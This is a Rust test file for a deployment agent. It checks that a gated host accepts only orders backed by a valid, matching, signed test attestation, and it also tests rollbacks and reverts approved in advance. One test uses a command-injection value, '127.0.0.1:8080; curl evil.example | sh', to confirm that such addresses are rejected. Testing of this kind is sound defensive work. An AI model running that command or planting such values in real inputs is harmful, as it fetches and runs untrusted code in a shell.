//! What a gated host takes up, what it declines, and in which words.

use expect_test::{Expect, expect};

use model::OrderKind::{Forward, Rollback};
use model::attest::{Predicate, Statement};
use model::order::Revert;
use model::refusal::Code;

use super::*;
use crate::{PROVEN_MAX, Work, authority};

/// The test result of `content`, for the order that [`order`] makes.
pub(crate) fn statement(content: &str, base: Option<Digest>) -> Statement {
    let predicate = Predicate {
        release: ReleaseId(1),
        base,
        check_set: Digest::of(b"rules"),
        environment: Digest::of(b"test"),
        evidence: Digest::of(b"evidence"),
        approved_by: vec!["ann".into()],
        issued_at: start(),
        expires_at: start() + jiff::SignedDuration::from_hours(24),
    };
    Statement::new(api(), bundle(content).digest(), predicate)
}

fn attested(dispatch: Dispatch, statement: Statement) -> Input {
    Input::Ordered {
        dispatch,
        proof: Proof::Holds(statement),
    }
}

/// A gated host whose good bundle is "old".
fn gated() -> World {
    let mut world = World::new();
    world.input(Input::Gated);
    let old = order(1, Forward, &bundle("old"));
    world.input(attested(old, statement("old", None)));
    world.run(5, all_good);
    assert_eq!(world.slot().running, bundle("old").digest());
    world.log.clear();
    world
}

/// What a gated host says to order 2 with this proof; nothing changes, and the fence goes up.
fn declined(kind: model::OrderKind, proof: Proof, expected: Expect) {
    let mut world = gated();
    let dispatch = order(2, kind, &bundle("new"));
    world.input(Input::Ordered { dispatch, proof });
    world.run(30, all_good);
    expected.assert_eq(&world.story());
    assert_eq!(world.slot().running, bundle("old").digest());
    assert_eq!(world.slot().fence, Generation(2));
    let kept = world.slot().dispatch.as_ref().unwrap();
    assert_eq!(kept.order.generation, Generation(1));
    assert!(world.slot().is_at_rest());
}

fn old() -> Option<Digest> {
    Some(bundle("old").digest())
}

#[test]
fn an_attested_order_is_taken_up_and_no_other() {
    let mut world = gated();
    let dispatch = order(2, Forward, &bundle("new"));
    world.input(attested(dispatch, statement("new", old())));
    world.run(10, all_good);
    assert_eq!(world.slot().running, bundle("new").digest());

    declined(
        Forward,
        Proof::Absent,
        expect![[r#"
            report declined at accept: not attested: the order brings no test result
            look
        "#]],
    );
    let reason = "the signature does not fit".into();
    declined(
        Forward,
        Proof::Invalid { reason },
        expect![[r#"
            report declined at accept: not attested: the order's test result is not believed: the signature does not fit
            look
        "#]],
    );
}

#[test]
fn each_cause_has_its_words() {
    declined(
        Forward,
        Proof::Holds(statement("old", old())),
        expect![[r#"
            report declined at accept: not attested: the test result is about another bundle (api old), the order about api new
            look
        "#]],
    );
    let mut other = statement("new", old());
    other.predicate.release = ReleaseId(7);
    declined(
        Forward,
        Proof::Holds(other),
        expect![[r#"
            report declined at accept: not attested: the test result is that of release 7, the order that of release 1
            look
        "#]],
    );
    let mut late = statement("new", old());
    late.predicate.expires_at = start();
    declined(
        Forward,
        Proof::Holds(late),
        expect![[r#"
            report declined at accept: not attested: the test result counts no longer since 2026-01-01T00:00:00Z (it is 2026-01-01T00:00:05Z here)
            look
        "#]],
    );
    declined(
        Forward,
        Proof::Holds(statement("new", Some(origin()))),
        expect![[r#"
            report declined at accept: not attested: it was tested against generation 0 as the bundle to start from, and this host has old
            look
        "#]],
    );
    declined(
        Forward,
        Proof::Holds(statement("new", None)),
        expect![[r#"
            report declined at accept: not attested: it was tested where no bundle was good before, and this host has old
            look
        "#]],
    );
}

#[test]
fn statements_of_another_kind_count_for_nothing() {
    let mut twice = statement("new", old());
    twice.subject.extend(statement("old", None).subject);
    let mut foreign = statement("new", old());
    foreign.predicate_type = "https://slsa.dev/provenance/v1".into();
    let mut mail = statement("new", old());
    mail.subject[0].name = "mail".parse().unwrap();
    for odd in [twice, foreign, mail] {
        let world = gated();
        let dispatch = order(2, Forward, &bundle("new"));
        let events = decide(&world.host, attested(dispatch, odd), world.now).unwrap();
        assert!(
            matches!(
                &events[..],
                [
                    NodeEvent::Slot { event: crate::SlotEvent::Fenced { .. }, .. },
                    NodeEvent::Reported { report: model::Report { kind: ReportKind::Declined { reason, .. }, .. } },
                ] if reason.starts_with("not attested: the test result is about another bundle")
            ),
            "{events:?}"
        );
    }
}

#[test]
fn an_address_can_not_smuggle_commands_past_the_test() {
    let evil = "127.0.0.1:8080; curl evil.example | sh";
    let mut world = gated();
    let mut forward = order(2, Forward, &bundle("new"));
    forward.order.address = evil.into();
    world.input(attested(forward, statement("new", old())));
    assert_eq!(
        world.story(),
        "report declined at accept: \"127.0.0.1:8080; curl evil.example | sh\" is not an address\n"
    );
    let mut back = order(3, Rollback, &bundle("old"));
    back.order.address = evil.into();
    world.input(ordered(back));
    world.run(10, all_good);
    assert_eq!(world.slot().generation(), Generation(3));
    let place = world.slot().place.as_ref().unwrap();
    assert_eq!(place.address, "127.0.0.1:8080");

    for fine in ["web-01.example_net:80", "[2001:db8::1]:8080", ""] {
        let mut dispatch = order(4, Forward, &bundle("new"));
        dispatch.order.address = fine.into();
        world.input(attested(dispatch, statement("new", old())));
        assert_eq!(world.slot().place.as_ref().unwrap().address, fine);
        world = gated();
    }
}

#[test]
fn a_way_back_to_unknown_bytes_needs_a_test_result_of_any_age() {
    declined(
        Rollback,
        Proof::Absent,
        expect![[r#"
            report declined at accept: not attested: a way back to a bundle that was never good here and never attested (the order brings no test result)
            look
        "#]],
    );
    let mut world = gated();
    let mut result = statement("new", Some(Digest::of(b"long ago")));
    result.predicate.release = ReleaseId(99);
    result.predicate.expires_at = start() - jiff::SignedDuration::from_hours(9000);
    world.input(attested(order(2, Rollback, &bundle("new")), result));
    world.run(10, all_good);
    assert_eq!(world.slot().running, bundle("new").digest());
    assert!(world.slot().settled);
}

#[test]
fn a_test_result_may_expire_while_the_order_is_carried_out() {
    let mut world = gated();
    let mut soon = statement("new", old());
    soon.predicate.expires_at = world.now + jiff::SignedDuration::from_secs(1);
    world.input(attested(order(2, Forward, &bundle("new")), soon));
    world.now += jiff::SignedDuration::from_secs(60);
    world.run(10, all_good);
    assert_eq!(world.slot().running, bundle("new").digest());
}

#[test]
fn a_host_on_its_own_generation_0_takes_what_was_tested_against_anything() {
    let mut world = gated();
    let mut back = order(2, Rollback, &bundle("old"));
    (back.order.digest, back.bundle) = (origin(), None);
    world.input(ordered(back));
    world.run(10, all_good);
    assert_eq!(world.slot().running, origin());
    world.input(attested(
        order(3, Forward, &bundle("new")),
        statement("new", old()),
    ));
    world.run(10, all_good);
    assert_eq!(world.slot().running, bundle("new").digest());
}

#[test]
fn what_is_good_already_may_be_ordered_again_though_it_is_its_own_base() {
    let mut world = gated();
    let again = order(2, Forward, &bundle("old"));
    world.input(attested(again, statement("old", None)));
    world.run(10, all_good);
    assert!(world.host.outbox.is_empty(), "{:?}", world.host.outbox);
    assert_eq!(world.slot().running_since, Generation(2));
}

#[test]
fn an_order_that_waits_for_the_way_back_starts_from_its_target() {
    let mut world = gated();
    let new = order(2, Forward, &bundle("new"));
    world.input(attested(new.clone(), statement("new", old())));
    world.run(5, |action| match action {
        Action::Confirm { .. } => fails("no answer"),
        _ => Outcome::Done,
    });
    assert!(matches!(world.slot().work, Work::Armed(_)));
    let mut next = new;
    next.order.generation = Generation(3);
    world.input(attested(next, statement("new", old())));
    world.run(20, all_good);
    assert_eq!(world.slot().running, bundle("new").digest());
    assert!(world.slot().settled && world.slot().is_at_rest());
}

#[test]
fn one_attested_order_gates_a_host_for_good() {
    let mut world = World::new();
    world.input(ordered(order(1, Forward, &bundle("old"))));
    world.run(5, all_good);
    assert!(!world.host.gated, "a test host asks for nothing");
    world.input(attested(
        order(2, Forward, &bundle("new")),
        statement("new", Some(Digest::of(b"anything"))),
    ));
    world.run(5, all_good);
    assert!(world.host.gated);
    assert_eq!(world.slot().running, bundle("new").digest());
    world.log.clear();
    world.input(ordered(order(3, Forward, &bundle("old"))));
    assert_eq!(
        world.story(),
        "report declined at accept: not attested: the order brings no test result\n"
    );
    world.restart();
    assert!(world.host.gated);
}

#[test]
fn a_result_about_something_else_gates_nobody() {
    let mut world = World::new();
    world.input(attested(
        order(1, Forward, &bundle("new")),
        statement("old", None),
    ));
    assert!(!world.host.gated);
}

#[test]
fn what_is_under_way_untested_is_given_up_when_a_host_is_gated() {
    let mut world = World::new();
    world.input(ordered(order(1, Forward, &bundle("new"))));
    world.input(Input::Gated);
    world.run(10, all_good);
    expect![[r#"
        report declined at stage: not attested: it was ordered before this host came to demand a test result
        prune
    "#]]
    .assert_eq(&world.story());

    let mut world = World::new();
    world.input(ordered(order(1, Forward, &bundle("old"))));
    world.run(5, |action| match action {
        Action::Confirm { .. } => fails("no answer"),
        _ => Outcome::Done,
    });
    world.input(ordered(order(2, Forward, &bundle("new"))));
    world.log.clear();
    world.input(Input::Gated);
    world.run(20, all_good);
    expect![[r#"
        report declined at accept: not attested: it was ordered before this host came to demand a test result
        stage
        swap to generation 0
        reload
        look
        report went back from old to generation 0 at confirm: a newer order came before this one was confirmed
        prune
    "#]]
    .assert_eq(&world.story());
    world.input(Input::Gated);
    assert!(world.log.is_empty(), "{:?}", world.log);
}

#[test]
fn a_way_back_to_unknown_bytes_turns_home_when_a_host_is_gated() {
    let mut world = World::new();
    world.input(ordered(order(1, Rollback, &bundle("new"))));
    world.input(Input::Gated);
    world.run(10, all_good);
    assert_eq!(world.slot().running, origin());
    assert!(!world.slot().was_good(bundle("new").digest()));
}

#[test]
fn what_was_good_is_remembered_longer_than_its_bytes() {
    let mut world = gated();
    let mut before = old();
    for number in 2..10 {
        let content = format!("bundle {number}");
        let next = order(number, Forward, &bundle(&content));
        world.input(attested(next, statement(&content, before)));
        world.run(10, all_good);
        before = Some(bundle(&content).digest());
        assert_eq!(Some(world.slot().running), before);
    }
    assert!(!world.slot().keep().contains(&bundle("old").digest()));
    world.input(ordered(order(10, Rollback, &bundle("old"))));
    world.run(10, all_good);
    assert_eq!(world.slot().running, bundle("old").digest());
}

#[test]
fn the_memory_of_what_was_good_is_bounded() {
    let mut world = World::new();
    let bundles = u64::try_from(PROVEN_MAX).unwrap() + 5;
    for number in 1..=bundles {
        let next = order(number, Rollback, &bundle(&format!("bundle {number}")));
        world.input(ordered(next));
        world.run(5, all_good);
    }
    let slot = world.slot();
    assert_eq!(slot.proven.len(), PROVEN_MAX);
    assert!(slot.was_good(bundle(&format!("bundle {bundles}")).digest()));
    assert!(slot.was_good(origin()), "its bytes are here for ever");
    assert!(!slot.was_good(bundle("bundle 1").digest()));
}

#[test]
fn state_of_an_older_version_knows_what_is_good() {
    let mut world = World::new();
    world.input(ordered(order(1, Forward, &bundle("old"))));
    world.run(5, all_good);
    let mut disk = serde_json::to_value(&world.host).unwrap();
    disk.as_object_mut().unwrap().remove("gated");
    let slot = disk.pointer_mut("/slots/api").unwrap();
    slot.as_object_mut().unwrap().remove("proven");
    world.host = serde_json::from_value(disk).unwrap();
    world.input(Input::Gated);
    // Left by a person, it is neither kept nor what runs; it was good all the same.
    world.input(Input::RevertLocal {
        service: api(),
        to: None,
    });
    world.run(10, all_good);
    assert_eq!(world.slot().running, origin());
    world.input(ordered(order(2, Rollback, &bundle("old"))));
    world.run(10, all_good);
    assert_eq!(world.slot().running, bundle("old").digest());
}

fn revert(generation: u64, to: Digest) -> Revert {
    let mut order = order(generation, Rollback, &bundle("old")).order;
    order.digest = to;
    Revert {
        order,
        approved_by: vec!["ann".into(), "bob".into()],
    }
}

fn refused(world: &World, revert: Revert) -> model::Refusal {
    decide(&world.host, Input::RevertInAdvance { revert }, world.now).unwrap_err()
}

#[test]
fn a_way_back_signed_in_advance_undoes_its_own_order_only() {
    let mut world = gated();
    let new = order(2, Forward, &bundle("new"));
    world.input(attested(new, statement("new", old())));
    world.run(10, all_good);
    let home = bundle("old").digest();

    let stale = refused(&world, revert(1, origin()));
    assert_eq!(stale.code, Code::RevertMoved);
    assert_eq!(
        stale.message,
        "the way back signed in advance undoes order 1, and order 2 came since"
    );
    let early = refused(&world, revert(3, home));
    assert_eq!(early.code, Code::RevertMoved);
    assert_eq!(
        early.message,
        "the way back signed in advance undoes order 3, and the newest here is order 2"
    );
    let mut foreign = revert(2, home);
    foreign.order.host = "web-02".parse().unwrap();
    assert_eq!(refused(&world, foreign).code, Code::UnknownHost);
    let mut other = revert(2, home);
    other.order.service = "mail".parse().unwrap();
    assert_eq!(refused(&world, other).code, Code::UnknownService);
    let mut forward = revert(2, home);
    forward.order.kind = Forward;
    assert_eq!(refused(&world, forward).code, Code::BadRequest);
    let nowhere = refused(&world, revert(2, Digest::of(b"never here")));
    assert_eq!(nowhere.code, Code::TargetNeverGood);

    world.log.clear();
    world.input(Input::RevertInAdvance {
        revert: revert(2, home),
    });
    world.run(10, |action| match action {
        Action::Confirm { .. } | Action::WayHome => panic!("nobody is asked"),
        _ => Outcome::Done,
    });
    expect![[r#"
        stage
        swap to old
        reload
        look
        report went back from new to old at watch: authorised in advance with release 1, approved by ann and bob
        prune
    "#]]
    .assert_eq(&world.story());
    assert!(world.slot().held_local);
    assert_eq!(world.slot().fence, Generation(2));
}

#[test]
fn an_approval_is_told_in_plain_words() {
    let mut by = revert(1, origin());
    by.approved_by.push("cleo".into());
    let with = "authorised in advance with release 1";
    assert_eq!(
        authority(&by),
        format!("{with}, approved by ann, bob and cleo")
    );
    by.approved_by.truncate(1);
    assert_eq!(authority(&by), format!("{with}, approved by ann"));
    by.approved_by.clear();
    assert_eq!(authority(&by), with);
}
